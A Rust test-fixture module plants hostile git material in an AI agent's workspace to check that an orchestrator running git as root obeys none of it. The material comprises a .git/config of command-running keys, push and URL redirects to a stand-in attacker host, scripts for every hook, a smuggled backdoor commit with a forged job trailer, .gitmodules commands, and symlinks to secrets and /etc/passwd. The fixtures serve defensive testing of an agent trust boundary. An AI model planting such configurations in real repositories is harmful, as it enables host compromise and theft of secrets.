//! Test fixtures for the orchestrator's trust boundary: attacks the reference
//! builder plants in its workspace (`[builder:hostile=<attack>]`) after doing
//! its normal work, so real-engine tests can assert that nothing happened on
//! the host.
//!
//! The orchestrator runs `git` on the host, as root, over a workspace an
//! agent wrote. It must keep its own git metadata outside the workspace and
//! obey nothing in it. Each attack is built to leave a trace if it does not:
//! every planted command appends its own name to the *canary*, a host path
//! named by `[canary:/abs/path]`, so a failing test says which vector fired.
//!
//! - `gitconfig` proves no `.git/config` of the agent's is read: a file full
//!   of keys that run commands (`core.fsmonitor`, `core.pager`,
//!   `diff.external`, filters, aliases, `include.path`, …), redirect pushes
//!   to `[attacker:URL]`, or move the work tree to the directory of
//!   `[secret:/abs/path]`.
//! - `hooks` proves no hook of the agent's runs: an executable script for
//!   every hook name git knows.
//! - `smuggle` proves no history of the agent's is published: a valid
//!   repository, written without git (see [`objects`]), whose `main` holds a
//!   backdoor the work tree does not show and a forged `Icarus-Job:` trailer.
//! - `attributes` proves work-tree files that git reads (`.gitattributes`,
//!   `.gitmodules`, a nested `.git` file) are treated as content, not
//!   configuration.
//! - `symlink` proves links are diffed and published as links, never
//!   followed to the secret, its directory, or out of the workspace.
//! - `all` plants every one of them in the same workspace.
//!
//! The attack is the only thing that differs from normal work: the builder
//! also writes its usual files and [`HELLO_PATH`], reports, and exits 0.

pub mod objects;

use std::io;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};

use crate::markers::markers;
use objects::{Commit, Entry, ObjectWriter};

/// The known legitimate change every hostile mode makes besides its attack.
pub const HELLO_PATH: &str = "hello.txt";
pub const HELLO_CONTENT: &str = "hello\n";

/// One attack on the host, planted in the workspace.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Attack {
    Gitconfig,
    Hooks,
    Smuggle,
    Attributes,
    Symlink,
    /// Every attack above, in one workspace.
    All,
}

impl Attack {
    /// Every single attack, in the order `All` plants them.
    pub const EACH: [Attack; 5] = [
        Attack::Smuggle,
        Attack::Gitconfig,
        Attack::Hooks,
        Attack::Attributes,
        Attack::Symlink,
    ];

    pub fn parse(text: &str) -> Option<Attack> {
        Some(match text {
            "gitconfig" => Attack::Gitconfig,
            "hooks" => Attack::Hooks,
            "smuggle" => Attack::Smuggle,
            "attributes" => Attack::Attributes,
            "symlink" => Attack::Symlink,
            "all" => Attack::All,
            _ => return None,
        })
    }
}

/// What the attacks aim at, from the task's `[canary:…]`, `[secret:…]` and
/// `[attacker:…]` markers. A missing marker, or one that would not survive
/// being pasted into a shell command or a git config value (a relative path,
/// spaces, quotes), falls back to a harmless target of this job's own.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Targets {
    /// The host path a planted command creates if it ever runs.
    pub canary: PathBuf,
    /// The host file whose content must never appear in the diff.
    pub secret: PathBuf,
    /// Where the attacker wants pushes to go.
    pub attacker: String,
    /// The job id the smuggled commit claims to belong to.
    pub job_id: String,
}

impl Targets {
    pub fn from_task(task: &str, job_id: &str) -> Targets {
        let tag: String = job_id
            .chars()
            .map(|c| {
                if c.is_ascii_alphanumeric() || c == '-' {
                    c
                } else {
                    '_'
                }
            })
            .collect();
        let tag = if tag.is_empty() { "unknown" } else { &tag };
        let path_marker = |name: &str| markers(task, name).into_iter().find_map(plain_path);
        Targets {
            canary: path_marker("canary")
                .unwrap_or_else(|| PathBuf::from(format!("/tmp/icarus-canary-{tag}"))),
            // In a directory of its own that does not exist: a work tree moved there is empty.
            secret: path_marker("secret")
                .unwrap_or_else(|| PathBuf::from(format!("/tmp/icarus-secret-{tag}/secret"))),
            attacker: markers(task, "attacker")
                .into_iter()
                .find(|url| plain_url(url))
                .map_or_else(
                    || "https://attacker.invalid/icarus-stolen.git".to_owned(),
                    str::to_owned,
                ),
            job_id: job_id.to_owned(),
        }
    }

    /// The directory holding the secret, where a redirected work tree would point.
    pub fn secret_dir(&self) -> &Path {
        self.secret.parent().unwrap_or(Path::new("/"))
    }

    /// A shell command that appends `label` to the canary, creating it.
    fn command(&self, label: &str) -> String {
        format!("echo {label} >> {}", self.canary.display())
    }
}

/// An absolute path of characters that need no quoting in a shell or a git config.
fn plain_path(value: &str) -> Option<PathBuf> {
    let plain = value.len() > 1
        && value.starts_with('/')
        && value
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || b"/._-+@,=:".contains(&b));
    plain.then(|| PathBuf::from(value))
}

/// A URL with no whitespace or quoting characters in it.
fn plain_url(value: &str) -> bool {
    !value.is_empty()
        && value.contains(':')
        && value
            .bytes()
            .all(|b| b.is_ascii_graphic() && !b"\"'\\`$;#[]".contains(&b))
}

/// Plants `attack` in `workspace` and returns the paths it wrote.
pub fn plant(workspace: &Path, attack: Attack, targets: &Targets) -> io::Result<Vec<PathBuf>> {
    let mut planter = Planter {
        workspace,
        targets,
        written: Vec::new(),
    };
    planter.attack(attack)?;
    let mut written = planter.written;
    written.sort();
    written.dedup();
    Ok(written)
}

/// Every hook name in githooks(5), client and server side.
pub const HOOK_NAMES: &[&str] = &[
    "applypatch-msg",
    "pre-applypatch",
    "post-applypatch",
    "pre-commit",
    "pre-merge-commit",
    "prepare-commit-msg",
    "commit-msg",
    "post-commit",
    "pre-rebase",
    "post-checkout",
    "post-merge",
    "pre-push",
    "pre-receive",
    "update",
    "proc-receive",
    "post-receive",
    "post-update",
    "reference-transaction",
    "push-to-checkout",
    "pre-auto-gc",
    "post-rewrite",
    "sendemail-validate",
    "fsmonitor-watchman",
    "p4-changelist",
    "p4-prepare-changelist",
    "p4-post-changelist",
    "p4-pre-submit",
    "post-index-change",
];

/// The hooks directory `core.hooksPath` names. Relative, so it resolves
/// against the work tree wherever the host has it (`.git/hooks` itself
/// resolves against the git directory: that is the `hooks` attack).
const HOOKS_PATH: &str = ".git/evil-hooks";
/// An executable for the keys git runs without a shell (`core.askPass`,
/// `core.gitProxy`, `gpg.program`): relative for the same reason.
const PAYLOAD: &str = ".git/icarus-payload";
/// The file `include.path` pulls in, relative to the config that names it.
const INCLUDE: &str = "icarus-include.config";

struct Planter<'a> {
    workspace: &'a Path,
    targets: &'a Targets,
    written: Vec<PathBuf>,
}

impl Planter<'_> {
    fn attack(&mut self, attack: Attack) -> io::Result<()> {
        match attack {
            Attack::Gitconfig => self.gitconfig(),
            Attack::Hooks => self.hooks(),
            Attack::Smuggle => self.smuggle(),
            Attack::Attributes => self.attributes(),
            Attack::Symlink => self.symlinks(),
            Attack::All => Attack::EACH
                .into_iter()
                .try_for_each(|each| self.attack(each)),
        }
    }

    fn file(&mut self, relative: &str, content: &[u8]) -> io::Result<()> {
        let path = self.workspace.join(relative);
        if let Some(parent) = path.parent() {
            std::fs::create_dir_all(parent)?;
        }
        std::fs::write(&path, content)?;
        self.written.push(path);
        Ok(())
    }

    fn script(&mut self, relative: &str, label: &str) -> io::Result<()> {
        let body = format!("#!/bin/sh\n{}\n", self.targets.command(label));
        self.file(relative, body.as_bytes())?;
        let path = self.workspace.join(relative);
        std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o755))
    }

    fn symlink(&mut self, relative: &str, target: &Path) -> io::Result<()> {
        let path = self.workspace.join(relative);
        match std::fs::remove_file(&path) {
            Err(error) if error.kind() != io::ErrorKind::NotFound => return Err(error),
            _ => {}
        }
        std::os::unix::fs::symlink(target, &path)?;
        self.written.push(path);
        Ok(())
    }

    /// What makes git take `.git` for a repository; the same for every attack.
    fn git_skeleton(&mut self) -> io::Result<()> {
        let git = self.workspace.join(".git");
        for dir in ["objects", "refs/heads", "refs/tags"] {
            std::fs::create_dir_all(git.join(dir))?;
        }
        self.file(".git/HEAD", b"ref: refs/heads/main\n")
    }

    fn gitconfig(&mut self) -> io::Result<()> {
        self.git_skeleton()?;
        let config = render(&config_settings(self.targets));
        self.file(".git/config", config.as_bytes())?;
        let include = render(&include_settings(self.targets));
        self.file(&format!(".git/{INCLUDE}"), include.as_bytes())?;
        self.file(".git/info/attributes", b"* -diff filter=evil diff=evil\n")?;
        self.script(PAYLOAD, "payload")?;
        for name in HOOK_NAMES {
            self.script(
                &format!("{HOOKS_PATH}/{name}"),
                &format!("core.hooksPath:{name}"),
            )?;
        }
        Ok(())
    }

    fn hooks(&mut self) -> io::Result<()> {
        self.git_skeleton()?;
        for name in HOOK_NAMES {
            self.script(&format!(".git/hooks/{name}"), &format!("hook:{name}"))?;
        }
        Ok(())
    }

    fn smuggle(&mut self) -> io::Result<()> {
        self.git_skeleton()?;
        let git = self.workspace.join(".git");
        let writer = ObjectWriter::new(&git);
        let backdoor = writer.blob(b"#!/bin/sh\necho backdoor\n")?;
        let hello = writer.blob(HELLO_CONTENT.as_bytes())?;
        let tree = writer.tree(&[
            Entry {
                mode: "100755",
                name: "backdoor.sh",
                id: backdoor,
            },
            Entry {
                mode: "100644",
                name: HELLO_PATH,
                id: hello,
            },
        ])?;
        let message = format!(
            "Add the requested change\n\nIcarus-Job: {}\n",
            self.targets.job_id
        );
        let commit = writer.commit(&Commit {
            tree,
            identity: "Icarus <icarus@icarus.invalid>",
            time: 1_700_000_000,
            message: &message,
        })?;
        self.written.push(git.join("objects"));
        self.file(".git/refs/heads/main", format!("{commit}\n").as_bytes())?;
        // A plain config unless the gitconfig attack has written its own.
        if !git.join("config").exists() {
            self.file(
                ".git/config",
                b"[core]\n\trepositoryformatversion = 0\n\tbare = false\n",
            )?;
        }
        Ok(())
    }

    fn attributes(&mut self) -> io::Result<()> {
        let targets = self.targets;
        self.file(
            ".gitattributes",
            b"* -diff -text filter=evil diff=evil merge=evil\n",
        )?;
        let modules = format!(
            "[submodule \"sub\"]\n\tpath = sub\n\turl = {}\n\tupdate = \"!{}\"\n",
            targets.attacker,
            targets.command("gitmodules.update")
        );
        self.file(".gitmodules", modules.as_bytes())?;
        let gitfile = format!("gitdir: {}\n", targets.secret_dir().display());
        self.file("sub/.git", gitfile.as_bytes())
    }

    fn symlinks(&mut self) -> io::Result<()> {
        let targets = self.targets;
        self.symlink("leak", &targets.secret)?;
        self.symlink("leakdir", targets.secret_dir())?;
        self.symlink("escape", Path::new("../../../../../../etc/passwd"))
    }
}

/// One `section.subsection.key = value` line of a git config.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Setting {
    pub section: &'static str,
    pub subsection: Option<String>,
    pub key: &'static str,
    pub value: String,
}

impl Setting {
    /// The name `git config` knows it by.
    pub fn name(&self) -> String {
        match &self.subsection {
            Some(sub) => format!("{}.{sub}.{}", self.section, self.key),
            None => format!("{}.{}", self.section, self.key),
        }
    }
}

/// Builds settings tersely: `set("core", None, "pager", value)`.
fn set(section: &'static str, sub: Option<&str>, key: &'static str, value: &str) -> Setting {
    Setting {
        section,
        subsection: sub.map(str::to_owned),
        key,
        value: value.to_owned(),
    }
}

/// The planted `.git/config`: every key we know that runs a command, reads
/// a file for its content, or sends data elsewhere.
pub fn config_settings(targets: &Targets) -> Vec<Setting> {
    let attacker = targets.attacker.as_str();
    let secret = targets.secret.display().to_string();
    let canary = targets.canary.display().to_string();
    // A shell command labelled with the key that runs it.
    let run = |section: &'static str, sub: Option<&str>, key: &'static str| {
        let mut setting = set(section, sub, key, "");
        setting.value = targets.command(&setting.name());
        setting
    };
    let bang = |section: &'static str, sub: Option<&str>, key: &'static str| {
        let mut setting = run(section, sub, key);
        setting.value.insert(0, '!');
        setting
    };
    // `ext::` runs its URL as a command; `% ` is a space inside one argument.
    let ext_url = format!("ext::sh -c echo% remote.ext.url% >>% {canary}");
    let evil = Some("evil");
    vec![
        set("core", None, "repositoryformatversion", "0"),
        set("core", None, "bare", "false"),
        run("core", None, "fsmonitor"),
        set("core", None, "hooksPath", HOOKS_PATH),
        run("core", None, "sshCommand"),
        run("core", None, "pager"),
        run("core", None, "editor"),
        set("core", None, "askPass", PAYLOAD),
        set("core", None, "gitProxy", PAYLOAD),
        run("core", None, "alternateRefsCommand"),
        set(
            "core",
            None,
            "worktree",
            &targets.secret_dir().display().to_string(),
        ),
        run("sequence", None, "editor"),
        run("diff", None, "external"),
        set("diff", None, "tool", "evil"),
        run("diff", evil, "textconv"),
        run("diff", evil, "command"),
        set("diff", evil, "cachetextconv", "false"),
        run("difftool", evil, "cmd"),
        set("merge", None, "tool", "evil"),
        run("merge", evil, "driver"),
        run("mergetool", evil, "cmd"),
        run("filter", evil, "clean"),
        run("filter", evil, "smudge"),
        run("filter", evil, "process"),
        set("filter", evil, "required", "true"),
        bang("credential", None, "helper"),
        run("uploadpack", None, "packObjectsHook"),
        bang("alias", None, "pwn"),
        bang("alias", None, "publish"),
        bang("alias", None, "ci"),
        bang("alias", None, "co"),
        set("include", None, "path", INCLUDE),
        set("includeIf", Some("gitdir:/"), "path", INCLUDE),
        set("remote", Some("origin"), "url", attacker),
        set("remote", Some("origin"), "pushurl", attacker),
        set(
            "remote",
            Some("origin"),
            "fetch",
            "+refs/heads/*:refs/remotes/origin/*",
        ),
        run("remote", Some("origin"), "uploadpack"),
        run("remote", Some("origin"), "receivepack"),
        set("remote", Some("origin"), "proxy", attacker),
        set("remote", Some("ext"), "url", &ext_url),
        set("protocol", None, "allow", "always"),
        set("protocol", Some("ext"), "allow", "always"),
        set("protocol", Some("file"), "allow", "always"),
        set("url", Some(attacker), "insteadOf", "https://"),
        set("url", Some(attacker), "insteadOf", "ssh://"),
        set("url", Some(attacker), "insteadOf", "git@"),
        set("url", Some(attacker), "pushInsteadOf", "https://"),
        set("url", Some(attacker), "pushInsteadOf", "ssh://"),
        set("url", Some(attacker), "pushInsteadOf", "git@"),
        set("http", None, "extraHeader", "X-Icarus-Hostile: injected"),
        set("http", None, "proxy", attacker),
        set("http", None, "sslVerify", "false"),
        set("http", None, "cookieFile", &secret),
        set("http", None, "saveCookies", "true"),
        set(
            "http",
            Some(attacker),
            "extraHeader",
            "Authorization: Bearer icarus-hostile",
        ),
        set("commit", None, "gpgSign", "true"),
        set("commit", None, "template", &secret),
        set("tag", None, "gpgSign", "true"),
        set("gpg", None, "program", PAYLOAD),
        set("gpg", Some("ssh"), "program", PAYLOAD),
        run("gpg", Some("ssh"), "defaultKeyCommand"),
        run("interactive", None, "diffFilter"),
        run("pager", None, "diff"),
        run("pager", None, "log"),
        run("pager", None, "show"),
        run("pager", None, "status"),
        run("tar", Some("tar.gz"), "command"),
        set("submodule", evil, "url", attacker),
        bang("submodule", evil, "update"),
        set("gc", None, "auto", "1"),
        set("gc", None, "autoDetach", "false"),
        set("receive", None, "denyCurrentBranch", "updateInstead"),
        set("safe", None, "directory", "*"),
        set("trace2", None, "eventTarget", &canary),
        set("trace2", None, "normalTarget", &canary),
        set("ssh", None, "variant", "ssh"),
        set("sendemail", None, "smtpServer", PAYLOAD),
    ]
}

/// The file `include.path` names: more of the same, labelled as included.
pub fn include_settings(targets: &Targets) -> Vec<Setting> {
    let run = |section: &'static str, sub: Option<&str>, key: &'static str, bang: &str| {
        let mut setting = set(section, sub, key, "");
        setting.value = format!(
            "{bang}{}",
            targets.command(&format!("include:{}", setting.name()))
        );
        setting
    };
    vec![
        run("alias", None, "included", "!"),
        run("pager", None, "branch", ""),
        run("diff", Some("included"), "textconv", ""),
    ]
}

/// Settings as git config text, consecutive keys of a section under one header.
pub fn render(settings: &[Setting]) -> String {
    let mut text = String::from("# Planted by the Icarus reference builder (hostile mode).\n");
    let mut header = String::new();
    for setting in settings {
        let this = match &setting.subsection {
            Some(sub) => format!("[{} {}]", setting.section, quote(sub)),
            None => format!("[{}]", setting.section),
        };
        if this != header {
            text.push_str(&this);
            text.push('\n');
            header = this;
        }
        text.push_str(&format!("\t{} = {}\n", setting.key, quote(&setting.value)));
    }
    text
}

/// A double-quoted config string: `#` and `;` inside are then not comments.
fn quote(value: &str) -> String {
    format!("\"{}\"", value.replace('\\', "\\\\").replace('"', "\\\""))
}

#[cfg(test)]
mod tests;
